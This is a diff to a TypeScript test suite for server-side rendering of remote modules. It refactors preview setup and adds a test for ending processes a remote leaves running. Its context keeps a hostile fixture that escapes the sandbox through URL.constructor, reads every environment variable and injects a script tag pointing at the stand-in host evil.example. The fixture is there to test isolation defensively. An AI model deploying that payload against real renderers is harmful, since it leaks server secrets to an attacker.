@@ -17,6 +17,8 @@ const HOSTILE = `const process = URL.constructor('return process')();
   const secrets = Object.values(process.env).join();
   exports.remote = { text: () => '<script>evil()</script> env:' + secrets + ' <script src="https://evil.example/' };`;
 
+const processIn = (html: string): string | undefined => /<p>born (\w+)<\/p>/.exec(html)?.[1];
+
 describe('server rendering', () => {
   let bff: Bff;
   let ssr: RealSsr;
@@ -34,10 +36,17 @@ describe('server rendering', () => {
   });
 
   const open = (url: string, cookies: Record<string, string> = {}) => bff.inject({ url, cookies });
-  const courses = async (query = '') => (await open(`/course${query}`)).body;
+  const courses = async (query = '', cookies = {}) => (await open(`/course${query}`, cookies)).body;
   /** Each query that counts is another page, which nothing has rendered yet. */
   let count = 0;
-  const newPage = () => courses(`?search=${(count += 1)}`);
+  const newPage = (cookies = {}) => courses(`?search=${(count += 1)}`, cookies);
+  /** Opens a preview of the remote. @returns the cookies of the browser in which it is open */
+  const preview = async (version: string, remote: string): Promise<Record<string, string>> => {
+    await house.upload(version, remote);
+    const by = { remote: REMOTE, version: house.versionOf(version), by: 'test', hours: 1 };
+    const followed = await open(`/course?try=${writeTryLink(house.key, by)}`);
+    return Object.fromEntries(followed.cookies.map(({ name, value }) => [name, value]));
+  };
 
   it('answers with the page as the code of shell and remote renders it [F6]', async () => {
     expect((await open('/')).body).toContain('<div id="root"><p>home</p></div>');
@@ -45,31 +54,14 @@ describe('server rendering', () => {
   });
 
   it('shows a hostile preview to the one who opened it, and the live page to everybody else unchanged [F4] [F8]', async () => {
-    await house.upload('hostile', HOSTILE);
-    const link = writeTryLink(house.key, {
-      remote: REMOTE,
-      version: house.versionOf('hostile'),
-      by: 'test',
-      hours: 1,
-    });
-    const followed = await open(`/course?try=${link}`);
-    const cookies = Object.fromEntries(followed.cookies.map(({ name, value }) => [name, value]));
-    const preview = (await open('/course', cookies)).body;
-    expect(preview).toContain('env: <script src="https://evil.example/');
+    const cookies = await preview('hostile', HOSTILE);
+    expect((await open('/course', cookies)).body).toContain('env: <script src="https://evil.example/');
     expect(await newPage()).toContain('the live courses');
     expect(await courses()).not.toContain('evil');
   });
 
   it('approves no script by what a remote rendered: nothing with a nonce follows it', async () => {
-    await house.upload('hostile-2', `${HOSTILE}//`);
-    const link = writeTryLink(house.key, {
-      remote: REMOTE,
-      version: house.versionOf('hostile-2'),
-      by: 'test',
-      hours: 1,
-    });
-    const followed = await open(`/course?try=${link}`);
-    const cookies = Object.fromEntries(followed.cookies.map(({ name, value }) => [name, value]));
+    const cookies = await preview('hostile-2', `${HOSTILE}//`);
     const { body, headers } = await open('/course', cookies);
     const [before, rendered = ''] = body.split('<div id="root">');
     expect(before).toContain('nonce=');
@@ -91,6 +83,20 @@ describe('server rendering', () => {
     expect((await open('/')).body).toContain('<p>home</p>');
     await house.switchRendering('ssr-on', '1');
     await eventually('rendered courses', async () => (await courses()).includes('the live courses'));
+  });
+
+  it('ends what a remote has left running once its rendering is switched off, of a preview too', async () => {
+    const cookies = await preview(
+      'born',
+      `const born = Math.random().toString(36).slice(2); exports.remote = { text: () => 'born ' + born };`,
+    );
+    const rendered = () => eventually('a rendered preview', async () => processIn(await newPage(cookies)));
+    const before = await rendered();
+    expect(await rendered()).toBe(before);
+    await house.switchRendering('ssr-off', '1');
+    await eventually('an unrendered preview', async () => !processIn(await newPage(cookies)));
+    await house.switchRendering('ssr-on', '1');
+    expect(await rendered()).not.toBe(before);
   });
 
   it('counts the pages that were rendered and that could not be', async () => {
